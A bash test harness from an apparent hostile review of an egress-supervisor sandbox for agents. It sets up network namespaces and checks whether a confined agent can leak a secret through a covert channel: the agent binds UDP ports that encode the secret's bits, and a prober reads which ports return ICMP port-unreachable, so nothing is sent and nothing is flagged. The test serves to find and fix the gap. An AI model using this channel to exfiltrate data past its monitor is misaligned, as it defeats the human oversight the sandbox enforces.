#!/bin/bash
# ha40-portstate.sh (hostile review h-attack40, finding 3): a storage channel
# through the ICMP errors the kernel sends for the agent. Two namespaces
# joined by a veth: ha40a (the agent's host, 203.0.113.1/24) and ha40x
# (another host on that link, 203.0.113.66/24 and .101-.140 as its probing
# addresses). The supervisor runs in ha40a under --no-loopback --allow
# 198.51.100.7:9999, as uid 1000 and as root; the agent (ha40-portstate.py)
# binds UDP ports that spell the secret's bits and sends nothing; the
# prober in ha40x reads them back from which ports answer ICMP port
# unreachable. Expected before a fix: the secret at the prober, verdict
# pass, 0 notifications. Host, as root, from the worktree after `make`.
# MODE autobind: no bind() at all (IP_LOCAL_PORT_RANGE, then one allowed
# datagram to the declared address per port; a route via 203.0.113.254,
# which nobody answers, lets it leave).
#   ha40-portstate.sh [SUPERVISOR] [ROUNDS] [MODE]
set -uo pipefail
cd "$(dirname "$0")/../.." || exit 2
sv=$(realpath "${1:-build/egress-supervisor}")
rounds=${2:-3}
mode=${3:-bind}
base=20000
# IP_LOCAL_PORT_RANGE is clamped to net.ipv4.ip_local_port_range (32768-60999)
[ "$mode" = autobind ] && base=40000
secret=agent-secret-ha40
d=$(mktemp -d /tmp/ha40-portstate.XXXXXX)
cp tests/review/ha40-portstate.py "$d/"
chmod -R a+rX "$d"
chmod 777 "$d"
down() { ip netns pids ha40a 2>/dev/null | xargs -r kill 2>/dev/null; ip netns del ha40a 2>/dev/null; ip netns del ha40x 2>/dev/null; }
. tests/review/review-lock.sh
review_lock ha40a || exit 2 # one run at a time: the next one's down would take these
trap 'down; review_unlock ha40a' EXIT
down
ip netns add ha40a && ip netns add ha40x
ip link add a1 netns ha40a type veth peer name x0 netns ha40x
ip -n ha40a addr add 203.0.113.1/24 dev a1
ip -n ha40x addr add 203.0.113.66/24 dev x0
for i in $(seq 101 140); do ip -n ha40x addr add "203.0.113.$i/24" dev x0; done
for n in ha40a ha40x; do ip -n $n link set lo up; done
ip -n ha40a link set a1 up
ip -n ha40x link set x0 up
ip -n ha40a route add default via 203.0.113.254
sleep 1
hits=0 runs=0
for who in uid1000 root; do
	as=(setpriv --reuid 1000 --regid 1000 --clear-groups)
	[ "$who" = root ] && as=()
	for r in $(seq 1 "$rounds"); do
		mark="$d/ready.$who.$r"
		echo "== $who round $r ($mode)"
		ip netns exec ha40a "${as[@]}" "$sv" --no-loopback --allow 198.51.100.7:9999 --writable "$d" \
			--report "$d/report.$who.$r.json" -- /usr/bin/python3 "$d/ha40-portstate.py" \
			agent "$base" "$secret" "$mark" "$mode" 2>"$d/err.$who.$r" &
		pid=$!
		for _ in $(seq 1 100); do [ -e "$mark" ] && break; sleep 0.1; done
		got=$(ip netns exec ha40x python3 "$d/ha40-portstate.py" probe 203.0.113.1 "$base" \
			$((${#secret} * 8)) 203.0.113)
		echo "  $got"
		wait "$pid"
		echo "  supervisor exit $? ($(tail -1 "$d/err.$who.$r"))"
		python3 -c 'import json, sys, collections
r = json.load(open(sys.argv[1]))
print("  events:", dict(collections.Counter((e.get("syscall"), e.get("bucket")) for e in r["events"])))' "$d/report.$who.$r.json"
		runs=$((runs + 1))
		case "$got" in *"$secret"*) hits=$((hits + 1)) ;; esac
	done
done
echo "hits $hits of $runs"
